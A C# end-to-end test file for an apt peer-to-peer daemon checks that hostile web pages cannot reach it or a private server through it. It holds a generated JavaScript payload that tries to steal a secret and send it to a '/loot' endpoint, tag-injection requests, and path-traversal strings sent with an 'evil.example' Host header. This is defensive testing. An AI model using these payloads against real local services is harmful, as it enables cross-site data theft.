using System.Net.Sockets;
using System.Text;
using AptP2P.Testing;
using AptP2P.Testing.Http;

namespace AptP2P.EndToEnd;

/// <summary>A web page that is after what this machine may read, in a real browser and as bare requests.</summary>
public sealed class HostilePageTests(SignedRepository repository) : EndToEndTest(repository)
{
    private const string Secret = "payroll";

    [Fact]
    public async Task Browser_PageOfAnArchive_DoesNotRun()
    {
        var (daemon, evil, secret) = await StartAsync();
        await using (evil)
        await using (secret)
        {
            evil.Otherwise = _ =>
                Page($"{Send("await text('/p2p/status')")} {Send($"await text('/{secret.EndPoint}/')")}", "title = 'ran'");

            var shown = await OpenAsync($"{daemon.Address}{evil.EndPoint}/page.html");

            Assert.Contains("use apt, or curl", shown, StringComparison.Ordinal); // a person reads what to do
            Assert.DoesNotContain("ran", shown, StringComparison.Ordinal);
            Assert.Empty(evil.Requests);
            Assert.Empty(secret.Requests);
        }
    }

    [Fact]
    public async Task Browser_PageOfAnotherSite_ReachesNothingThroughTheDaemon()
    {
        var (daemon, evil, secret) = await StartAsync();
        await using (evil)
        await using (secret)
        {
            var through = $"{daemon.Address}{secret.EndPoint}/x";
            evil.Otherwise = request =>
                request.Target != "/"
                    ? Answer.Of(default)
                    : Page(
                        "for (const name of ['img', 'iframe', 'script', 'link', 'video', 'object']) {"
                            + "const tag = document.createElement(name); tag.rel = 'stylesheet';"
                            + $"tag.src = tag.href = tag.data = '{through}'; document.body.append(tag); }}"
                            + $"{Send($"await text('{through}')")} {Send($"await text('{through}', {{mode: 'no-cors'}})")} "
                            + $"{Send($"await text('{daemon.Address}p2p/status')")}"
                            + $"{Send($"await text('{daemon.Address}p2p/status', {{mode: 'no-cors'}})")}",
                        "await fetch('/done')");

            await OpenAsync(evil.Url("/"));

            Assert.Contains(evil.Requests, request => request.Target == "/done"); // it has run to its end
            Assert.DoesNotContain(evil.Requests, request =>
                request.Target.StartsWith("/loot?", StringComparison.Ordinal) && request.Target.Length > "/loot?".Length);
            Assert.Empty(secret.Requests);
        }
    }

    /// <summary>
    /// A page on a name that points here is let to the peers' paths, whose readers know addresses: what is reached from there must be
    /// those.
    /// </summary>
    [Theory]
    [InlineData("/")]
    [InlineData("//")]
    [InlineData("/p2p/status")]
    [InlineData("/p2p/health")]
    [InlineData("/.well-known/../")]
    [InlineData("/.well-known/..")]
    [InlineData("/.well-known/..?x")]
    [InlineData("/.well-known/%2e%2e/")]
    [InlineData("/.well-known/%2E%2E/p2p/status")]
    [InlineData("/.well-known/ni/../../p2p/status")]
    [InlineData("/.well-known/..%2fp2p/status")]
    [InlineData("/.well-known/..//p2p/status")]
    [InlineData("/.well-known/x/%2e%2e/../p2p/health")]
    [InlineData("/p2p/../")]
    [InlineData("/p2p%2fstatus")]
    [InlineData("/./")]
    public async Task Status_OfAnotherName_IsNotGiven(string path)
    {
        var daemon = await StartDaemonAsync("daemon");

        Assert.Matches("^HTTP/1.1 (403|404|400) ", await GetAsync(daemon, path, "evil.example"));
        Assert.StartsWith("HTTP/1.1 200 ", await GetAsync(daemon, "/p2p/status", "localhost"), StringComparison.Ordinal);
    }

    private async Task<(Daemon Daemon, FaultyServer Evil, FaultyServer Private)> StartAsync()
    {
        var daemon = await StartDaemonAsync("daemon");
        var address = $"{NextAddress()}";
        return (daemon, FaultyServer.Start($"{NextAddress()}", default), FaultyServer.Start(address, Encoding.ASCII.GetBytes(Secret)));
    }

    private static Answer Page(string script, string end) => Answer.Of(Encoding.ASCII.GetBytes(
        "<!DOCTYPE html><title>x</title><body><script>const text = async (...what) => (await fetch(...what)).text();"
        + $"(async () => {{ {script} {end} }})();</script>")).With("Content-Type", "text/html");

    /// <summary>Sends what an expression gives to where the page came from.</summary>
    private static string Send(string expression) =>
        $"try {{ const loot = {expression}; await fetch('/loot?' + encodeURIComponent(loot)); }} catch {{ }}";

    /// <returns>What the browser shows, when all that the page does has ended.</returns>
    private async Task<string> OpenAsync(string address)
    {
        if (Tools.FirstMissing("chromium") is { } missing)
        {
            throw Requirement.Missing($"the program {missing} is missing");
        }

        string[] quiet =
        [
            "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
            $"--user-data-dir={Folder("browser")}",
        ];
        return (await Command.RunAsync("chromium", [.. quiet, "--virtual-time-budget=8000", "--dump-dom", address])).Succeeded().Output;
    }

    private static async Task<string> GetAsync(Daemon daemon, string path, string name)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(daemon.Address.Host, daemon.Address.Port, TestContext.Current.CancellationToken);
        await using var stream = client.GetStream();
        await stream.WriteAsync(
            Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n"),
            TestContext.Current.CancellationToken);
        using var reader = new StreamReader(stream, Encoding.Latin1);
        return await reader.ReadToEndAsync(TestContext.Current.CancellationToken);
    }
}
